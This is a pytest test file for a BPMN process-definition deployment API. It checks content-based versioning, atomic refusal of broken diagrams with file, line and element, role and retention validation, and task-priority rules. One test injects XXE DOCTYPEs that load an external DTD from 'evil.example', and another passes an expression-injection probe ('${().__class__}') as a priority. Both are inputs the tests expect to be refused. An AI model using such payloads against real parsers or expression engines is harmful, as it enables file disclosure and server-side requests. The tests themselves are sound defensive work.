"""Deployments are atomic and versioned by content; bad files are refused with file, line and element."""

import json

import pytest
from lxml import etree

from tests.support.api import FIXTURES, upload
from tests.support.conformance import miwg_files

BASIC = sorted((FIXTURES / "basic").iterdir())
MIWG_FILES = miwg_files()


def definitions(api):
    return api.get("/api/v1/process-definitions").get_json()


def deployed_file_count(app):
    from engine.definitions.models import DefinitionFile
    from engine.db.extensions import db

    with app.app_context():
        return db.session.query(DefinitionFile).count()


def test_upload_creates_versions_and_unchanged_files_keep_theirs(as_user, tmp_path):
    owner = as_user("procesbeheerder")
    first = upload(owner, BASIC)
    assert {f["status"] for f in first["files"]} == {"new"}
    assert first["processes"] == [{"process_id": "simple_case", "version": 1, "status": "new"}]

    again = upload(owner, BASIC)
    assert {f["status"] for f in again["files"]} == {"unchanged"}
    assert again["processes"][0]["status"] == "unchanged"

    form = (FIXTURES / "basic" / "simple_police.form").read_text().replace("Registratienummer", "Nummer")
    (tmp_path / "simple_police.form").write_text(form)
    changed = upload(owner, [tmp_path / "simple_police.form"])
    assert changed["files"] == [
        {"file": "simple_police.form", "kind": "form", "key": "simple_police", "version": 2, "status": "new_version"}
    ]
    assert changed["processes"] == [{"process_id": "simple_case", "version": 2, "status": "new_version"}]
    versions = owner.get("/api/v1/process-definitions/simple_case/versions").get_json()
    assert [v["version"] for v in versions] == [2, 1]


def test_running_case_stays_on_its_version(as_user, tmp_path):
    owner, gemeente = as_user("procesbeheerder"), as_user("gemeente.westbetuwe")
    upload(owner, BASIC)
    old = gemeente.start("simple_case", {"summary": "x", "municipality_code": "GM0668"})
    form = (
        (FIXTURES / "basic" / "simple_triage.form")
        .read_text()
        .replace('"validate": {"min": 0}', '"validate": {"min": 0, "required": true}')
    )
    (tmp_path / "simple_triage.form").write_text(form)
    upload(owner, [tmp_path / "simple_triage.form"])
    new = gemeente.start("simple_case", {"summary": "y", "municipality_code": "GM0668"})
    assert (old["version"], new["version"]) == (1, 2)
    old_task, new_task = gemeente.task_for(old["id"]), gemeente.task_for(new["id"])
    gemeente.complete(old_task["id"], {"category": "intimidatie"})
    errors = gemeente.complete(new_task["id"], {"category": "intimidatie"}, expect=422)["errors"]
    assert list(errors) == ["estimated_costs"]


BROKEN = {
    "not_xml": ("<bpmn:definitions", None, "Not well-formed XML"),
    "complex_gateway": (None, "gw", "not supported"),
    "missing_call_target": (None, "call", "'nowhere'"),
    "bad_timer": (None, "wait", "not a valid ISO-8601 duration"),
    "no_form": (None, "task", "has no form"),
    "bad_condition": (None, "f3", "does not compile"),
    "unknown_role": (None, "task", "is not a role"),
}


def _broken_bpmn(kind: str) -> str:
    head = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
        'xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="d" targetNamespace="x">\n'
        '  <bpmn:process id="broken" isExecutable="true">\n'
        '    <bpmn:startEvent id="start"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>\n'
        '    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="{first}" />\n'
    )
    tail = "  </bpmn:process>\n</bpmn:definitions>\n"
    task = (
        '    <bpmn:userTask id="task" camunda:formRef="simple_police" camunda:candidateGroups="politie">'
        "<bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f2</bpmn:outgoing></bpmn:userTask>\n"
        '    <bpmn:sequenceFlow id="f2" sourceRef="task" targetRef="end" />\n'
        '    <bpmn:endEvent id="end"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>\n'
    )
    if kind == "not_xml":
        return head.format(first="task") + task + "  </bpmn:process>\n"
    if kind == "complex_gateway":
        return (
            head.format(first="gw")
            + (
                '    <bpmn:complexGateway id="gw"><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f9</bpmn:outgoing></bpmn:complexGateway>\n'
                '    <bpmn:sequenceFlow id="f9" sourceRef="gw" targetRef="end" />\n'
                '    <bpmn:endEvent id="end"><bpmn:incoming>f9</bpmn:incoming></bpmn:endEvent>\n'
            )
            + tail
        )
    if kind == "missing_call_target":
        return (
            head.format(first="call")
            + (
                '    <bpmn:callActivity id="call" calledElement="nowhere"><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f9</bpmn:outgoing></bpmn:callActivity>\n'
                '    <bpmn:sequenceFlow id="f9" sourceRef="call" targetRef="end" />\n'
                '    <bpmn:endEvent id="end"><bpmn:incoming>f9</bpmn:incoming></bpmn:endEvent>\n'
            )
            + tail
        )
    if kind == "bad_timer":
        return (
            head.format(first="wait")
            + (
                '    <bpmn:intermediateCatchEvent id="wait"><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f9</bpmn:outgoing>\n'
                "      <bpmn:timerEventDefinition><bpmn:timeDuration>P2X</bpmn:timeDuration></bpmn:timerEventDefinition>\n"
                "    </bpmn:intermediateCatchEvent>\n"
                '    <bpmn:sequenceFlow id="f9" sourceRef="wait" targetRef="end" />\n'
                '    <bpmn:endEvent id="end"><bpmn:incoming>f9</bpmn:incoming></bpmn:endEvent>\n'
            )
            + tail
        )
    if kind == "no_form":
        return head.format(first="task") + task.replace(' camunda:formRef="simple_police"', "") + tail
    if kind == "unknown_role":
        return head.format(first="task") + task.replace('"politie"', '"politei"') + tail
    if kind == "bad_condition":
        return (
            head.format(first="task")
            + task.replace('targetRef="end" />', 'targetRef="gw" />').replace(
                '    <bpmn:endEvent id="end"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>\n',
                '    <bpmn:exclusiveGateway id="gw"><bpmn:incoming>f2</bpmn:incoming><bpmn:outgoing>f3</bpmn:outgoing></bpmn:exclusiveGateway>\n'
                '    <bpmn:sequenceFlow id="f3" sourceRef="gw" targetRef="end"><bpmn:conditionExpression>x ==</bpmn:conditionExpression></bpmn:sequenceFlow>\n'
                '    <bpmn:endEvent id="end"><bpmn:incoming>f3</bpmn:incoming></bpmn:endEvent>\n',
            )
            + tail
        )
    raise AssertionError(kind)


@pytest.mark.parametrize("kind", sorted(BROKEN))
def test_broken_diagram_is_refused_with_file_line_element_and_nothing_changes(app, as_user, tmp_path, kind):
    owner = as_user("procesbeheerder")
    upload(owner, BASIC)
    before = deployed_file_count(app), definitions(owner)
    text = _broken_bpmn(kind)
    path = tmp_path / "broken.bpmn"
    path.write_text(text)
    report = upload(owner, [path, FIXTURES / "basic" / "simple_start.form"], expect=422)
    _, element, phrase = BROKEN[kind]
    problem = next(p for p in report["errors"] if phrase in p["message"])
    assert problem["file"] == "broken.bpmn"
    assert problem["line"] is not None and problem["line"] >= 1
    if element:
        assert problem["element_id"] == element
        assert f'id="{element}"' in text.splitlines()[problem["line"] - 1]
    assert (deployed_file_count(app), definitions(owner)) == before


def test_broken_form_names_the_field(as_user, tmp_path):
    owner = as_user("procesbeheerder")
    path = tmp_path / "bad.form"
    path.write_text(
        '{"id": "bad", "type": "default",\n "components": [\n  {"type": "select", "key": "pick", "label": "Kies"}\n]}'
    )
    report = upload(owner, [path], expect=422)
    assert report["errors"] == [
        {
            "file": "bad.form",
            "line": 3,
            "element_id": "pick",
            "message": "'pick' needs 'values', 'valuesKey' or 'valuesExpression'.",
        }
    ]


def test_only_process_owners_deploy(as_user):
    assert as_user("gemeente.westbetuwe").post("/api/v1/deployments", data={}).status_code == 403


def test_upload_without_files_is_a_clear_422(as_user):
    response = as_user("procesbeheerder").post("/api/v1/deployments", data={}, content_type="multipart/form-data")
    assert response.status_code == 422
    assert "files" in response.get_json()["errors"]


@pytest.mark.skipif(not MIWG_FILES, reason="conformance files not on this machine")
@pytest.mark.parametrize("path", MIWG_FILES, ids=lambda p: p.name)
def test_conformance_diagram_deploys_or_is_refused_precisely(app, as_user, path):
    owner = as_user("procesbeheerder")
    before = deployed_file_count(app)
    response = owner.post(
        "/api/v1/deployments", data={"files": [(open(path, "rb"), path.name)]}, content_type="multipart/form-data"
    )
    assert response.status_code in (201, 422), response.get_json()
    body = response.get_json()
    if response.status_code == 201:
        assert deployed_file_count(app) == before + 1
        return
    assert deployed_file_count(app) == before
    tree = etree.parse(str(path))
    for problem in body["errors"]:
        assert problem["file"] == path.name
        assert problem["line"], problem
        assert problem["message"]
        if problem["element_id"]:
            element = tree.xpath("//*[@id=$id]", id=problem["element_id"])[0]
            last_line = max(e.sourceline for e in element.iter())
            assert element.sourceline <= problem["line"] <= last_line + 1, problem


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
        '<!DOCTYPE definitions SYSTEM "http://evil.example/bpmn.dtd">',
        '<!DOCTYPE definitions [<!ENTITY name "Triage">]>',
    ],
)
def test_a_doctype_is_refused_and_nothing_is_deployed(as_user, app, tmp_path, doctype):
    owner = as_user("procesbeheerder")
    text = (FIXTURES / "basic" / "simple_case.bpmn").read_text()
    head, rest = text.split("\n", 1) if text.startswith("<?xml") else ("", text)
    (tmp_path / "simple_case.bpmn").write_text(f"{head}\n{doctype}\n{rest}")
    forms = [p for p in BASIC if p.suffix == ".form"]
    refused = upload(owner, [tmp_path / "simple_case.bpmn", *forms], expect=422)
    assert refused["errors"][0]["file"] == "simple_case.bpmn"
    assert "DOCTYPE" in refused["errors"][0]["message"]
    assert deployed_file_count(app) == 0


@pytest.mark.parametrize(
    "attribute, accepted",
    [
        ('camunda:historyTimeToLive="altijd"', False),
        ('camunda:historyTimeToLive="180"', True),
        ('camunda:historyTimeToLive="P2Y"', True),
        ('camunda:historyTimeToLive="P0D"', False),
    ],
)
def test_a_retention_period_that_does_not_parse_is_refused_at_deploy(as_user, app, tmp_path, attribute, accepted):
    owner = as_user("procesbeheerder")
    text = (FIXTURES / "basic" / "simple_case.bpmn").read_text()
    (tmp_path / "simple_case.bpmn").write_text(
        text.replace('isExecutable="true"', f'isExecutable="true" {attribute}', 1)
    )
    forms = [p for p in BASIC if p.suffix == ".form"]
    if accepted:
        upload(owner, [tmp_path / "simple_case.bpmn", *forms])
        return
    refused = upload(owner, [tmp_path / "simple_case.bpmn", *forms], expect=422)
    assert "Retention of process 'simple_case'" in refused["errors"][0]["message"]
    assert refused["errors"][0]["element_id"] == "simple_case"
    assert deployed_file_count(app) == 0


def test_a_form_whose_readers_are_not_roles_is_refused(as_user, app, tmp_path):
    owner = as_user("procesbeheerder")
    form = json.loads((FIXTURES / "basic" / "simple_triage.form").read_text())
    field = next(c for c in form["components"] if c.get("key"))
    field.setdefault("properties", {})["readers"] = "gemeente, iedereen"
    (tmp_path / "simple_triage.form").write_text(json.dumps(form))
    others = [p for p in BASIC if p.name != "simple_triage.form"]
    refused = upload(owner, [*others, tmp_path / "simple_triage.form"], expect=422)
    problem = next(e for e in refused["errors"] if e["file"] == "simple_triage.form")
    assert f"The readers of '{field['key']}' must be roles" in problem["message"] and "iedereen" in problem["message"]
    assert deployed_file_count(app) == 0


@pytest.mark.parametrize(
    "priority, accepted",
    [
        ("80", True),
        ("${90 if acute_danger else 50}", True),
        ("hoog", False),
        ("150", False),
        ("${().__class__}", False),
    ],
)
def test_a_task_priority_is_a_number_or_an_expression(as_user, app, tmp_path, priority, accepted):
    owner = as_user("procesbeheerder")
    text = (FIXTURES / "basic" / "simple_case.bpmn").read_text()
    (tmp_path / "simple_case.bpmn").write_text(
        text.replace('camunda:dueDate="P2D"', f'camunda:dueDate="P2D" camunda:priority="{priority}"', 1)
    )
    forms = [p for p in BASIC if p.suffix == ".form"]
    if accepted:
        upload(owner, [tmp_path / "simple_case.bpmn", *forms])
        return
    refused = upload(owner, [tmp_path / "simple_case.bpmn", *forms], expect=422)
    assert "priority" in refused["errors"][0]["message"].lower() and refused["errors"][0]["element_id"] == "triage"
    assert deployed_file_count(app) == 0


def test_a_process_id_defined_by_another_file_is_refused_naming_both_files(as_user, app, tmp_path):
    owner = as_user("procesbeheerder")
    upload(owner, BASIC)
    copy = tmp_path / "copy_of_simple.bpmn"
    copy.write_text((FIXTURES / "basic" / "simple_case.bpmn").read_text())
    refused = upload(owner, [copy], expect=422)
    duplicate = [e for e in refused["errors"] if "simple_case" in e["message"]]
    assert duplicate, refused
    assert all(
        "copy_of_simple.bpmn" in e["message"] + e["file"] and "simple_case.bpmn" in e["message"] + e["file"]
        for e in duplicate
    ), duplicate
    assert any(e["file"] == "copy_of_simple.bpmn" for e in duplicate), duplicate
